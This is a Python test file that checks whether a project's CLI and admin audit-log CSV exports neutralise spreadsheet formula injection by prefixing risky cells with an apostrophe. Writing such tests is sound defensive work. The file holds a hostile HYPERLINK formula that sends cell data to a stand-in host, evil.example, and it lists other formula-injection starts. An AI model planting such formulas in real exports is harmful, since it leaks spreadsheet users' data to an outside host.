"""Formula-safe CSV in the CLI's and the web's exports (issue 11, item 5), with data carrying formulas.

The demo store's outcome categories are rewritten to the issue's payload (as a hostile or broken
source file would deliver them), then ``safer evidence outcomes --csv`` is read back with the csv
module: every cell that came from the data starts with an apostrophe, and the counts are unchanged.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import duckdb
from typer.testing import CliRunner

from safer_communities.cli import app as cli
from safer_communities.web import audit

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def test_evidence_outcomes_csv_neutralises_formulas_from_the_data(demo_store: Path, tmp_path: Path) -> None:
    store = tmp_path / "hostile.duckdb"
    shutil.copyfile(demo_store, store)
    con = duckdb.connect(str(store))
    try:
        charged = "SELECT count(*) FROM outcomes WHERE outcome_type = 'Suspect charged'"
        before = con.execute(charged).fetchone()
        con.execute("UPDATE outcomes SET outcome_type = ? WHERE outcome_type = 'Suspect charged'", [PAYLOAD])
    finally:
        con.close()
    result = CliRunner().invoke(cli, ["--db", str(store), "evidence", "outcomes", "--issue", "violence",
                                      "--period", "2021-04..2022-03", "--csv", "-"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    hostile = [r for r in rows if PAYLOAD in r["outcome"]]
    assert hostile, "the payload should reach the export"
    assert all(r["outcome"] == "'" + PAYLOAD for r in hostile)
    assert not any(v.startswith("=") for r in rows for v in r.values())
    # the county row's crimes for the rewritten category are the raw count of violence outcomes
    county = next(r for r in hostile if r["area_code"] == "E23000003")
    assert 0 < int(county["crimes"]) <= before[0]


def test_the_audit_export_neutralises_every_dangerous_start(app, login_as) -> None:
    for text in (PAYLOAD, "+1+cmd", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1"):
        audit.record(app.state.engine, actor=text, action="login_failed", ip="10.0.0.1", detail=text)
    body = login_as("admin").get("/admin/audit.csv").text
    rows = list(csv.DictReader(io.StringIO(body)))
    actors = {r["actor"] for r in rows if r["action"] == "login_failed"}
    assert actors == {"'" + t for t in (PAYLOAD, "+1+cmd", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1")}
